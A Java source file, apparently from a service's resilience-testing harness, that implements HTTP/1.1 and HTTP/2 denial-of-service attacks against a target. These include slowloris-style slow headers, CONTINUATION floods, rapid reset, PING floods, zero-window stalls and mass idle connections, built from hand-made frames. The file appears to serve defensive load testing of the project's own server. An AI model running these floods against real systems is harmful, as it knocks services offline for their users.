package io.kairos.bench.attack;

import com.linecorp.armeria.client.ClientFactory;
import com.linecorp.armeria.client.WebClient;
import com.linecorp.armeria.common.HttpData;
import com.linecorp.armeria.common.HttpRequest;
import com.linecorp.armeria.common.HttpRequestWriter;
import com.linecorp.armeria.common.HttpResponse;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/** Attacks by connections, heads of requests, frames of HTTP/2, waits, and answers left unread. */
final class ConnectionAttacks {
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final byte INITIAL_WINDOW_SIZE = 4;
  private static final int PING = 6;
  private static final int HEADERS = 1;
  private static final int CONTINUATION = 9;

  /** Flags: the end of the headers and of the stream. */
  private static final int WHOLE_REQUEST = 5;

  /** {@code :method: GET} and {@code :scheme: http} in the static table of HPACK. */
  private static final byte GET = (byte) 0x82;

  private static final byte HTTP = (byte) 0x86;

  private ConnectionAttacks() {}

  /** 2,500 connections that say nothing, or begin TLS and stop. */
  static void idle(AttackTarget target) {
    byte[] hello = {0x16, 3, 1, 2, 0};
    Attackers.together(
        target,
        2_500,
        () -> {
          try (Socket socket = target.connect()) {
            socket.getOutputStream().write(hello);
            target.pass(Duration.ofSeconds(60));
          }
        });
  }

  /** 500 connections that send a byte of a head each second. */
  static void slowHeads(AttackTarget target) {
    Attackers.together(
        target,
        500,
        () -> {
          try (Socket socket = target.connect()) {
            AttackTarget.send(socket, "GET /readyz HTTP/1.1\r\nhost: ");
            while (!target.isOver()) {
              AttackTarget.send(socket, "a");
              target.pass(Duration.ofSeconds(1));
            }
          }
        });
  }

  /** 64 connections that send headers without end, half of them by HTTP/2 CONTINUATION frames. */
  static void headerFlood(AttackTarget target) {
    byte[] header = ("x-" + "a".repeat(1_000) + ": b\r\n").getBytes(StandardCharsets.US_ASCII);
    Attackers.together(
        target,
        32,
        () -> {
          try (Socket socket = target.connect()) {
            AttackTarget.send(socket, "GET /readyz HTTP/1.1\r\n");
            while (!target.isOver()) {
              socket.getOutputStream().write(header);
            }
          }
        });
  }

  /** CONTINUATION frames without end. */
  static void continuations(AttackTarget target) {
    Attackers.together(
        target,
        32,
        () -> {
          try (Socket socket = http2(target, new byte[0])) {
            OutputStream out = socket.getOutputStream();
            out.write(frame(HEADERS, 0, 1, new byte[] {GET}));
            byte[] more = frame(CONTINUATION, 0, 1, literal("x-a", "b".repeat(100)));
            while (!target.isOver()) {
              out.write(more);
            }
          }
        });
  }

  /** Requests that are reset as soon as they are sent, and resets of calls that are not there. */
  static void rapidReset(AttackTarget target) {
    Attackers.together(
        target,
        8,
        () -> {
          try (Socket socket = http2(target, new byte[0])) {
            socket.getOutputStream().write(frame(RST_STREAM, 0, 1, new byte[4]));
          }
          try (ClientFactory connection = target.connection()) {
            WebClient client = target.http2(connection);
            while (!target.isOver()) {
              HttpRequestWriter request =
                  HttpRequest.streaming(target.call("TaskService/BatchScheduleTasks"));
              HttpResponse answer = client.execute(request);
              request.write(HttpData.wrap(new byte[100]));
              answer.abort();
              request.abort();
              if (answer.isComplete()) {
                Thread.onSpinWait();
              }
            }
          }
        });
  }

  /** PING frames whose answers are never read. */
  static void pings(AttackTarget target) {
    byte[] ping = frame(PING, 0, 0, new byte[8]);
    ByteBuffer many = ByteBuffer.allocate(ping.length * 1_000);
    while (many.hasRemaining()) {
      many.put(ping);
    }
    Attackers.together(
        target,
        16,
        () -> {
          try (Socket socket = http2(target, new byte[0])) {
            while (!target.isOver()) {
              socket.getOutputStream().write(many.array());
            }
          }
        });
  }

  /**
   * 64 connections that ask again and again and read no answer: for the metrics, for a line, for
   * what is not there, and without a token.
   */
  static void unread(AttackTarget target) {
    List<String> asks =
        List.of(
            target.head("GET /metrics"),
            target.head("GET /"),
            target.head("GET /nothing"),
            "GET /v1/tasks HTTP/1.1\r\nhost: localhost\r\n\r\n");
    AtomicInteger connections = new AtomicInteger();
    Attackers.together(
        target,
        64,
        () -> {
          String ask = asks.get(connections.getAndIncrement() % asks.size());
          try (Socket socket = target.connect()) {
            while (!target.isOver()) {
              AttackTarget.send(socket, ask.repeat(100));
            }
          }
        });
  }

  /** 64 connections with 1,000 calls each without a token, of whose answers none may be sent. */
  static void zeroWindow(AttackTarget target) {
    byte[] noWindow = {0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0};
    byte[] ask =
        join(
            new byte[] {GET, HTTP},
            literal(":path", "/metrics"),
            literal(":authority", "localhost"));
    Attackers.together(
        target,
        64,
        () -> {
          try (Socket socket = http2(target, noWindow)) {
            for (int stream = 1; stream < 2_000; stream += 2) {
              socket.getOutputStream().write(frame(HEADERS, WHOLE_REQUEST, stream, ask));
            }
            target.pass(Duration.ofSeconds(5));
          }
        });
  }

  /** As many waits of workers as go, with 500 handlers each. */
  static void waits(AttackTarget target) {
    StringBuilder message = new StringBuilder("\n\u0006attack");
    for (int i = 0; i < 500; i++) {
      message.append("\u0012@").append("%064d".formatted(i));
    }
    message.append("\u0018\u0001");
    byte[] wait = message.toString().getBytes(StandardCharsets.US_ASCII);
    byte[] whole = BodyAttacks.message(wait);
    BodyAttacks.flood(target, 40_000, "WorkerService/NextWork", _ -> whole);
  }

  private static Socket http2(AttackTarget target, byte[] settings) throws IOException {
    Socket socket = target.connect();
    AttackTarget.send(socket, PREFACE);
    socket.getOutputStream().write(frame(SETTINGS, 0, 0, settings));
    return socket;
  }

  private static byte[] join(byte[]... parts) {
    ByteBuffer whole = ByteBuffer.allocate(Arrays.stream(parts).mapToInt(one -> one.length).sum());
    Arrays.stream(parts).forEach(whole::put);
    return whole.array();
  }

  private static byte[] frame(int type, int flags, int stream, byte[] payload) {
    return ByteBuffer.allocate(9 + payload.length)
        .put((byte) (payload.length >>> 16))
        .putShort((short) payload.length)
        .put((byte) type)
        .put((byte) flags)
        .putInt(stream)
        .put(payload)
        .array();
  }

  /** A header field of HPACK that is neither compressed nor kept. */
  private static byte[] literal(String name, String value) {
    return ByteBuffer.allocate(3 + name.length() + value.length())
        .put((byte) 0)
        .put((byte) name.length())
        .put(name.getBytes(StandardCharsets.US_ASCII))
        .put((byte) value.length())
        .put(value.getBytes(StandardCharsets.US_ASCII))
        .array();
  }
}
